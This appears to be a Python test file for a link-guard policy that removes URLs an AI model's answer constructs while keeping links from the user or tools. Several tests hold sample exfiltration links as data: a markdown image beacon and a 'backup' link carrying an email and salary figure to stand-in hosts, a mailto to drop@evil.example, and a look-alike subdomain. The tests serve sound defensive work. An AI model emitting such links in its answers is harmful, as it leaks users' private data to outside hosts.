"""Links the model built are removed from answers; links the user or a tool supplied stay."""

from __future__ import annotations

from policies.link_guard import remove_unknown_links, unknown_links

TOOL = '{"uri": "https://intranet.larkspur.example/handbook/travel-policy", "note": "see https://acme.example/rfp"}'
USER = "Compare with https://www.example.org/report?id=7 please"


def test_known_links_stay() -> None:
    answer = (
        "Hotels are capped [1] (https://intranet.larkspur.example/handbook/travel-policy). "
        "The RFP is at https://acme.example/rfp, and your report https://www.example.org/report?id=7."
    )
    check = remove_unknown_links(answer, [USER, TOOL])
    assert check.text == answer and check.removed == ()


def test_built_links_are_removed_with_their_host_shown() -> None:
    answer = (
        "Done. ![ok](https://cdn.stats.example/p.png?u=alice.chen@larkspur.example&q=acme-240000) "
        "[Back up](https://crm-backup.example/save?data=30001-240000). "
        "Mail it: mailto:drop@evil.example?body=salaries"
    )
    check = remove_unknown_links(answer, [USER, TOOL])
    assert [f.host for f in check.removed] == ["cdn.stats.example", "crm-backup.example", "evil.example"]
    assert "240000" not in check.text and "salaries" not in check.text
    assert "![ok]([link removed: cdn.stats.example])" in check.text
    assert "[link removed: evil.example]" in check.text


def test_a_known_link_with_extra_data_is_a_different_link() -> None:
    (f,) = unknown_links("https://acme.example/rfp?leak=1", [TOOL])
    assert f.url == "https://acme.example/rfp?leak=1"


def test_trusted_hosts_and_their_subdomains_are_allowed() -> None:
    answer = "See https://wiki.larkspur.example/new-page and https://larkspur.example.evil.example/x"
    found = unknown_links(answer, [], trusted_hosts=["larkspur.example"])
    assert [f.host for f in found] == ["larkspur.example.evil.example"]


def test_trailing_punctuation_is_not_part_of_the_link() -> None:
    check = remove_unknown_links("Go to https://evil.example/x.", [])
    assert check.text == "Go to [link removed: evil.example]."


def test_text_without_links_is_untouched() -> None:
    assert remove_unknown_links("Deal 30001 is in Contract sent.", []).removed == ()
